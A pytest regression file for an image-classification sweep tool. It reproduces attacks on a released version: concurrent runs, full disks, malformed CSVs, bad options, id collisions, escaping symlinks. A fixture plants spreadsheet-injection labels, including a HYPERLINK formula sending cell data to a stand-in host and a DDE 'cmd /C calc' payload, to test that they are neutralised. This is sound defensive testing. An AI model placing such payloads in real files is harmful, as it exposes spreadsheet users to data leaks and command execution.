"""Races, full disks, malformed CSVs, out-of-range options, open ports, formulas, ids: each
attack on the released version reproduced, and the promise that now holds."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pandas as pd
import pytest

from core.util.errors import InputError
from core.util.events import LevelFinished, Log
from core.results.runs import CLAIM_FILE, load_run
from core.pipeline.runner import SweepConfig, run_sweep
from tests.conftest import CLASSES

ROOT = Path(__file__).resolve().parents[2]


def _config(tiny_model, images, labels, out, **kw) -> SweepConfig:
    from core.util.config import BackboneSpec

    cfg, ck = tiny_model
    return SweepConfig(dataset=str(images), out=str(out), labels=str(labels), templates="plain",
                       backbones=[BackboneSpec(cfg, checkpoint=ck, device="cpu")],
                       num_workers=0, bootstrap=20, ensemble_shots=[], **{"levels": [1, 2, 4], **kw})


# ---------------------------------------------------------------- 1. two sweeps, one folder

RACER = r"""
import sys, time
from pathlib import Path
from core import sweep
from core.util.errors import InputError
from core.util.events import Log

me, other, cfg, ck, images, labels, out, cache = sys.argv[1:]
first = []

def meet(event):
    # both processes have checked the folder and resolved their inputs: start writing together
    if isinstance(event, Log) and not first:
        first.append(1)
        Path(me).touch()
        deadline = time.time() + 120
        while not Path(other).exists() and time.time() < deadline:
            time.sleep(0.001)

try:
    sweep(images, labels, backbones=[f"{cfg}={ck}"], levels=[1, 2], templates="plain", out=out, device="cpu",
          num_workers=0, bootstrap=20, ensemble_shots=[], cache_dir=cache, emit=meet)
except InputError as e:
    print(f"refused: {e}", file=sys.stderr)
    sys.exit(2)
"""


def test_two_simultaneous_sweeps_into_one_folder_one_is_refused(tiny_model, image_folder, labels_csv, tmp_path):
    """Attack 1: two processes pass the folder check together; exactly one may write the folder."""
    cfg, ck = tiny_model
    out = tmp_path / "run"
    script = tmp_path / "racer.py"
    script.write_text(RACER)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    procs = [subprocess.Popen([sys.executable, str(script), str(tmp_path / f"m{i}"), str(tmp_path / f"m{1 - i}"),
                               cfg, ck, str(image_folder), str(labels_csv), str(out), str(tmp_path / f"cache{i}")],
                              cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for i in range(2)]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    codes = sorted(rc for rc, _ in results)
    assert codes == [0, 2], results
    refused = next(err for rc, err in results if rc == 2)
    assert "another run is writing into this folder" in refused or "already holds a run" in refused
    run = load_run(out)
    n_images = sum(1 for _ in image_folder.rglob("*.png"))
    assert run.status == "completed"
    assert len(run.predictions) == n_images * 2  # one run's rows, not two
    assert len(run.levels) == 2 and len(run.tables["threshold"]) == 1
    assert not (out / CLAIM_FILE).exists()  # released when the run ended


def test_overwrite_of_a_folder_a_live_run_writes_is_refused(tiny_model, image_folder, labels_csv, tmp_path):
    """A second run (even with overwrite) never removes or mixes into the files of a run still writing."""
    out = tmp_path / "run"
    paused, go = threading.Event(), threading.Event()

    def hold(event):
        if isinstance(event, LevelFinished) and not paused.is_set():
            paused.set()
            go.wait(600)  # released in the finally below; a slow machine may take minutes to start the CLI

    result = {}
    t = threading.Thread(target=lambda: result.setdefault("a", run_sweep(
        _config(tiny_model, image_folder, labels_csv, out, cache_dir=str(tmp_path / "c1")), emit=hold)))
    t.start()
    try:
        assert paused.wait(120)
        claim = json.loads((out / CLAIM_FILE).read_text())
        assert claim["pid"] == os.getpid()
        with pytest.raises(InputError, match="another run is writing into this folder"):
            run_sweep(_config(tiny_model, image_folder, labels_csv, out, overwrite=True,
                              cache_dir=str(tmp_path / "c2")))
        # the command line says the same, exit 2, one line
        cfg, ck = tiny_model
        p = subprocess.run([sys.executable, "-m", "core.cli", "sweep", "--dataset", image_folder, "--labels", labels_csv,
                            "--model", cfg, "--checkpoint", ck, "--templates", "plain", "--device", "cpu",
                            "--workers", "0", "--out", out, "--overwrite", "--cache-dir", tmp_path / "c3"],
                           cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert p.returncode == 2 and "another run is writing into this folder" in p.stderr
        assert p.stderr.strip().splitlines()[-1].startswith("semscale: error: ")
    finally:
        go.set()
        t.join(120)
    assert result["a"].status == "completed"
    run = load_run(out)
    n_images = sum(1 for _ in image_folder.rglob("*.png"))
    assert len(run.predictions) == n_images * 3 and set(run.levels["level"]) == {1, 2, 4}
    assert not (out / CLAIM_FILE).exists()


def test_a_claim_left_by_a_dead_process_is_taken_over(tiny_model, image_folder, labels_csv, tmp_path):
    out = tmp_path / "run"
    out.mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    (out / CLAIM_FILE).write_text(json.dumps({"pid": dead.pid, "host": socket.gethostname(), "pid_started": 1.0}))
    assert run_sweep(_config(tiny_model, image_folder, labels_csv, out, levels=[1])).status == "completed"
    assert not (out / CLAIM_FILE).exists()


# ---------------------------------------------------------------- 2. a full disk


@pytest.fixture
def small_disk(tmp_path):
    """A real 64 KiB tmpfs (the attack used a 200 KB one); skipped where mounting is not permitted."""
    mnt = tmp_path / "disk"
    mnt.mkdir()
    p = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mnt)], capture_output=True, text=True)
    if p.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here ({p.stderr.strip() or p.returncode}): needs root")
    yield mnt
    subprocess.run(["umount", "-l", str(mnt)], check=False)


def _sweep_cli(tiny_model, images, labels, out, cache, *extra):
    cfg, ck = tiny_model
    return subprocess.run([sys.executable, "-m", "core.cli", "sweep", "--dataset", images, "--labels", labels,
                           "--model", cfg, "--checkpoint", ck, "--templates", "plain", "--device", "cpu",
                           "--workers", "0", "--bootstrap", "20", "--ensemble-shots", "", "--cache-dir", cache,
                           "--out", out, *extra], cwd=ROOT, capture_output=True, text=True, timeout=300)


def test_full_disk_keeps_whole_levels_and_says_so(tiny_model, image_folder, labels_csv, small_disk, tmp_path):
    """Attack 2: --out on a tiny disk. One line naming the folder, exit 2, and the run reads back
    as whole levels only: no row of an unfinished level, no NaN row."""
    out = small_disk / "run"
    p = _sweep_cli(tiny_model, image_folder, labels_csv, out, tmp_path / "cache", "--orderings", "20",
                   "--levels", "1,2,4")
    last = p.stderr.strip().splitlines()[-1]
    assert p.returncode == 2, p.stderr[-2000:]
    assert last.startswith(f"semscale: error: {out}: the disk is full") and "unexpected" not in p.stderr
    run = load_run(out)
    assert run.status in ("failed", "interrupted")
    n_images = sum(1 for _ in image_folder.rglob("*.png"))
    assert 0 < len(run.levels) < 60  # it stopped part-way
    curves = set(map(tuple, run.levels[["ordering", "level"]].to_numpy().tolist()))
    got = run.predictions.groupby(["ordering", "level"]).size()
    assert set(got.index) == curves and (got == n_images).all()  # whole levels, the ones levels.csv lists
    assert not run.predictions.isna().all(axis=1).any() and run.predictions["image"].notna().all()
    per_class = run.per_class.groupby(["ordering", "level"]).size()
    assert set(per_class.index) == curves and (per_class == len(CLASSES)).all()


def test_full_cache_disk_is_one_line_naming_the_cache(tiny_model, image_folder, labels_csv, small_disk, tmp_path):
    """A full cache database ("database or disk is full") names the cache folder, exit 2."""
    p = _sweep_cli(tiny_model, image_folder, labels_csv, tmp_path / "run", small_disk / "cache")
    assert p.returncode == 2, p.stderr[-2000:]
    last = p.stderr.strip().splitlines()[-1]
    assert last.startswith(f"semscale: error: {small_disk / 'cache'}: the disk is full")


def test_partial_rows_are_left_out_with_a_warning(two_backbone_run, tmp_path):
    """A truncated last line (a kill or a full disk mid-write) never reads back as a row of NaNs."""
    import shutil

    from core.results.runs import PartialRowsWarning

    run_dir = tmp_path / "run"
    shutil.copytree(two_backbone_run, run_dir)
    whole = load_run(run_dir)
    assert whole.warnings == []
    # rows written past run.json's committed length (a level that never finished)
    with open(run_dir / "predictions.csv", "a", encoding="utf-8") as f:
        f.write("red/000.png,red square,8,red,red square,1,0,A,0.5,1.0,1,red square,synonyms\nblue/0")
    with pytest.warns(PartialRowsWarning, match="predictions.csv: left out"):
        run = load_run(run_dir)
    pd.testing.assert_frame_equal(run.predictions, whole.predictions)
    assert run.warnings and "after the last whole level" in run.warnings[0]
    # an older run (no committed lengths): the partial last line alone is left out
    meta = json.loads((run_dir / "run.json").read_text())
    meta.pop("committed")
    (run_dir / "run.json").write_text(json.dumps(meta))
    with pytest.warns(PartialRowsWarning, match="partial last row"):
        run = load_run(run_dir)
    assert len(run.predictions) == len(whole.predictions) + 1
    assert not run.predictions.isna().all(axis=1).any()
    assert run.predictions.iloc[-1]["level"] == 8


# ---------------------------------------------------------------- 3. malformed CSVs


@pytest.mark.parametrize("text, line, what", [
    ('class,synonym\nsun,sun\n"globe\nmoon,moon,extra,fields\n', 3, "a quote is never closed"),
    ("class,synonym\nglobe,moon,extra,fields\n", 2, "extra fields"),
    ("class,synonym,source\nglobe,earth,wordnet,extra\n", 2, "extra fields"),
    ('class,synonym\nglobe,"earth\nball"\nmoon,moon\n', 2, "line break"),
    ('class,synonym\nglobe,"earth" ball\n', 2, "malformed CSV row"),
])
def test_malformed_labels_csv_is_an_error_naming_file_and_line(tmp_path, text, line, what):
    """Attack 3: these loaded as one class named 'globe\\nmoon,moon,extra,fields' with no warning."""
    from core.labels import load_labels

    p = tmp_path / "labels.csv"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=what) as e:
        load_labels(p)
    assert e.value.file == str(p) and e.value.line == line


def test_validate_reports_a_malformed_labels_file(image_folder, tmp_path):
    p = tmp_path / "labels.csv"
    p.write_text('class,synonym\n"red square\nred square,red,extra,fields\n', encoding="utf-8")
    r = subprocess.run([sys.executable, "-m", "core.cli", "validate", "--dataset", image_folder, "--labels", p,
                        "--quick"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and f"{p}:2: malformed CSV row starting here: a quote is never closed" in r.stderr


@pytest.mark.parametrize("text, line, what", [
    ('class,frequency\nred square,10\n"green circle,20\nblue triangle,30\n', 3, "a quote is never closed"),
    ("class,frequency\nred square\ngreen circle,20\n", 2, "expected 2 fields"),
    ('class,frequency\n"red\nsquare",10\n', 2, "line break"),
])
def test_malformed_user_table_is_an_error_naming_file_and_line(tmp_path, text, line, what):
    from core.util.tables import read_user_csv

    p = tmp_path / "freq.csv"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=what) as e:
        read_user_csv(p, ("class", "frequency"), "class-frequency")
    assert e.value.file == str(p) and e.value.line == line


# ---------------------------------------------------------------- 4. options out of range


@pytest.mark.parametrize("option, value, field", [
    ("--alpha", "2", "alpha"), ("--alpha", "-1", "alpha"), ("--alpha", "0", "alpha"),
    ("--batch-size", "0", "batch-size"), ("--batch-size", "-5", "batch-size"), ("--workers", "-3", "workers"),
    ("--bootstrap", "0", "bootstrap"), ("--orderings", "0", "orderings"), ("--ensemble-splits", "-1", "ensemble-splits"),
    ("--ensemble-shots", "0,2", "ensemble-shots"), ("--levels", "0,2", "levels"),
])
def test_out_of_range_options_are_refused_before_any_folder(tiny_model, image_folder, labels_csv, tmp_path, capsys,
                                                           option, value, field):
    """Attack 4: --alpha 2 gave the verdict 'declining' with p = 1; --batch-size 0 failed later in torch."""
    from core.cli import main

    cfg, ck = tiny_model
    out = tmp_path / "run"
    rc = main(["sweep", "--dataset", str(image_folder), "--labels", str(labels_csv), "--model", cfg, "--checkpoint",
               ck, "--templates", "plain", "--device", "cpu", "--out", str(out), option, value])
    err = capsys.readouterr().err
    assert rc == 2 and f"field '{field}'" in err and "unexpected" not in err, err
    assert not out.exists()


@pytest.mark.parametrize("options", [{"alpha": 1.5}, {"batch_size": 0}, {"num_workers": -1}, {"bootstrap": 0},
                                     {"top_k": 0}, {"logits_limit_mb": -1.0}, {"alpha": float("nan")}])
def test_out_of_range_api_options_are_refused(tiny_model, image_folder, labels_csv, tmp_path, options):
    import core

    cfg, ck = tiny_model
    out = tmp_path / "run"
    with pytest.raises(InputError) as e:
        core.sweep(image_folder, labels_csv, [f"{cfg}={ck}"], templates="plain", out=out, device="cpu", **options)
    assert e.value.field == {"num_workers": "workers"}.get(next(iter(options)), next(iter(options))).replace("_", "-")
    assert not out.exists()


@pytest.mark.parametrize("line, key", [("alpha = 2.0", "alpha"), ("batch_size = 0", "batch_size"),
                                       ("bootstrap = -3", "bootstrap"), ("levels = [1, 0]", "levels")])
def test_out_of_range_study_options_use_the_same_rule(tmp_path, line, key):
    from core.study.study import parse_study

    text = f'seed = 1\n{line}\n[[backbones]]\nmodel = "demo-vit"\n[[datasets]]\nname = "a"\npath = "/x"\n'
    with pytest.raises(InputError) as e:
        parse_study(text, tmp_path / "study.toml")
    assert e.value.line == 2 and key in str(e.value)


def test_embed_refuses_out_of_range_options(image_folder, tmp_path, capsys):
    from core.cli import main

    rc = main(["embed", "--dataset", str(image_folder), "--model", "demo-vit", "--out", str(tmp_path / "store"),
               "--shard-size", "0"])
    assert rc == 2 and "field 'shard-size'" in capsys.readouterr().err
    assert not (tmp_path / "store").exists()


def test_checkpoint_that_fails_to_load_is_refused_before_the_folder(tiny_model, image_folder, labels_csv, tmp_path):
    """A bad --checkpoint left a 'failed' run folder that refused the corrected retry."""
    import torch

    cfg, ck = tiny_model
    garbage = tmp_path / "garbage.pt"
    garbage.write_bytes(b"not a checkpoint" * 64)
    other = tmp_path / "other.pt"
    torch.save({"visual.conv1.weight": torch.zeros(3, 3)}, other)
    out = tmp_path / "run"
    for bad in (garbage, other):
        with pytest.raises(InputError, match="cannot load this checkpoint") as e:
            run_sweep(_config(tiny_model, image_folder, labels_csv, out, levels=[1]).__class__(
                **{**_config(tiny_model, image_folder, labels_csv, out, levels=[1]).__dict__,
                   "backbones": [_spec(cfg, bad)]}))
        assert e.value.file == str(bad) and not out.exists()
    # the retry with the right file runs into the same folder
    assert run_sweep(_config(tiny_model, image_folder, labels_csv, out, levels=[1])).status == "completed"


def _spec(cfg, ck):
    from core.util.config import BackboneSpec

    return BackboneSpec(cfg, checkpoint=str(ck), device="cpu")


# ---------------------------------------------------------------- 7. image ids


def test_raw_byte_and_escaped_name_get_different_ids(tiny_model, image_folder, labels_csv, tmp_path):
    """Attack 7: a file named with a raw 0xFF byte and one named with the four characters \\xff shared an id."""
    from core.data import load_dataset
    from tests.conftest import make_image

    cls = image_folder / "red square"
    make_image("red square", 7).save(os.fsdecode(bytes(cls).__add__(b"/\xff.png")))
    make_image("red square", 8).save(cls / "\\xff.png")
    ds = load_dataset(image_folder)
    ids = [r.id for r in ds.records if r.label == "red square"]
    assert len(ids) == len(set(ids)) == 6
    assert "red square/\\xff.png" in ids and "red square/\\\\xff.png" in ids
    run = run_sweep(_config(tiny_model, image_folder, labels_csv, tmp_path / "run", levels=[1]))
    preds = load_run(run.run_dir).predictions
    assert preds["image"].is_unique and len(preds) == len(ds.records)


def test_duplicate_ids_are_found_at_scan_time(tmp_path):
    from core.data.base import Dataset, ImageRecord, drop_duplicate_ids

    a, b = tmp_path / "a.png", tmp_path / "b.png"
    ds = drop_duplicate_ids(Dataset(root=tmp_path, kind="imagefolder", classes=["x"],
                                    records=[ImageRecord("x/1.png", "x", a), ImageRecord("x/1.png", "x", b),
                                             ImageRecord("x/2.png", "x", b)]))
    assert [r.path for r in ds.records] == [a, b]
    assert ds.problems == [("x/1.png", f"same image id as another image ({b}); rename one of them")]


# ---------------------------------------------------------------- 8. skipped count, links leaving the folder


def test_skipped_count_equals_skipped_csv_rows(tiny_model, image_folder, labels_csv, tmp_path, capsys):
    """Attack 8: the summary said '4 skipped' while skipped.csv had 5 rows (a dangling link was not counted)."""
    from core.cli import main

    os.symlink(tmp_path / "nowhere.png", image_folder / "red square" / "dangling.png")
    (image_folder / "green circle" / "zero.png").write_bytes(b"")
    (image_folder / "blue triangle" / "text.png").write_text("not an image")
    cfg, ck = tiny_model
    out = tmp_path / "run"
    assert main(["sweep", "--dataset", str(image_folder), "--labels", str(labels_csv), "--model", cfg, "--checkpoint",
                 ck, "--templates", "plain", "--device", "cpu", "--workers", "0", "--levels", "1",
                 "--out", str(out)]) == 0
    rows = pd.read_csv(out / "skipped.csv")
    assert len(rows) == 3
    run = load_run(out)
    assert run.summary["backbones"]["tiny-clip"]["n_skipped"] == len(rows)
    assert "3 skipped" in capsys.readouterr().err


def test_class_folder_linked_from_outside_is_reported(tiny_model, image_folder, labels_csv, tmp_path):
    """Attack 8: a class folder that is a symbolic link leaving the dataset root was followed silently."""
    from core.data import load_dataset, validate

    elsewhere = tmp_path / "elsewhere"
    (image_folder / "yellow bar").rename(elsewhere)
    os.symlink(elsewhere, image_folder / "yellow bar")
    report = validate(load_dataset(image_folder), check_images=False)
    assert report.dataset_warnings == [f"class folder 'yellow bar' is a symbolic link to {elsewhere}, outside the "
                                       "dataset folder"]
    assert "Dataset warnings: 1" in report.to_text()
    logs = []
    run_sweep(_config(tiny_model, image_folder, labels_csv, tmp_path / "run", levels=[1]), emit=logs.append)
    assert any(isinstance(e, Log) and e.level == "warning" and "outside the dataset folder" in e.message for e in logs)


def test_manifest_symlink_leaving_its_folder_is_refused(image_folder, tmp_path):
    """A manifest refused '../x.png' lexically; a link inside its folder pointing out got round that."""
    from core.data import load_dataset

    data = tmp_path / "data"
    data.mkdir()
    os.symlink(image_folder / "red square", data / "reds")
    (data / "manifest.csv").write_text("path,label\nreds/000.png,red square\n")
    with pytest.raises(InputError, match="symbolic link leading outside") as e:
        load_dataset(data / "manifest.csv")
    assert e.value.line == 2


# ---------------------------------------------------------------- 6. spreadsheet formulas

FORMULA_LABELS = ('class,synonym\nred square,=HYPERLINK("http://x.example/?"&A1;"click")\nred square,red square\n'
                  "green circle,+cmd|' /C calc'!A0\nblue triangle,@SUM(1+1)\nblue triangle,-dash\n"
                  'yellow bar,"\tyellow"\n')


@pytest.fixture
def formula_run(tiny_model, image_folder, tmp_path) -> Path:
    labels = tmp_path / "formula-labels.csv"
    labels.write_text(FORMULA_LABELS, encoding="utf-8")
    logs = []
    run_sweep(_config(tiny_model, image_folder, labels, tmp_path / "run", levels=[1, 2]), emit=logs.append)
    warned = [e.message for e in logs if isinstance(e, Log) and e.level == "warning" and "formula" in e.message]
    assert len(warned) == 4 and any(m.startswith("'=HYPERLINK") for m in warned)
    return tmp_path / "run"


def test_formula_names_are_warned_kept_exact_in_run_files_and_neutralised_for_people(formula_run, tmp_path):
    """Attack 6: names starting with = + - @ reached the CSVs unescaped. Run files stay exact (scripts read
    them); exports for people get OWASP's leading quote."""
    from core.labels import load_labels
    from core.util.tables import formula_risk, neutralise, neutralise_csv, neutralise_frame

    labels = load_labels(formula_run.parent / "formula-labels.csv")
    assert sum("formula" in w for w in labels.warnings) == 4  # =, +, @, - (a leading tab is stripped on loading)
    run = load_run(formula_run)
    names = set(run.predictions["predicted_label"])
    assert names <= {n for ns in labels.names.values() for n in ns}  # exact values, no quote added
    raw = (formula_run / "levels.csv").read_bytes()
    n = neutralise_csv(formula_run / "predictions.csv", tmp_path / "people.csv")
    people = pd.read_csv(tmp_path / "people.csv", keep_default_na=False, dtype=str)
    exact = pd.read_csv(formula_run / "predictions.csv", keep_default_na=False, dtype=str)
    risky = exact.map(formula_risk)
    assert n == int(risky.to_numpy().sum()) > 0
    P, E, R = people.to_numpy(dtype=object), exact.to_numpy(dtype=object), risky.to_numpy(dtype=bool)
    assert list(P[R]) == ["'" + v for v in E[R]]
    assert list(P[~R]) == list(E[~R])  # every other cell unchanged
    # a file with nothing at risk is copied byte for byte
    assert neutralise_csv(formula_run / "levels.csv", tmp_path / "levels.csv") == 0
    assert (tmp_path / "levels.csv").read_bytes() == raw
    assert neutralise("-1.5") == "-1.5" and neutralise("-dash") == "'-dash" and neutralise(3) == 3
    assert neutralise_frame(pd.DataFrame({"a": ["=1+1", "x"], "b": [-1, 2]})).to_dict("list") == {
        "a": ["'=1+1", "x"], "b": [-1, 2]}
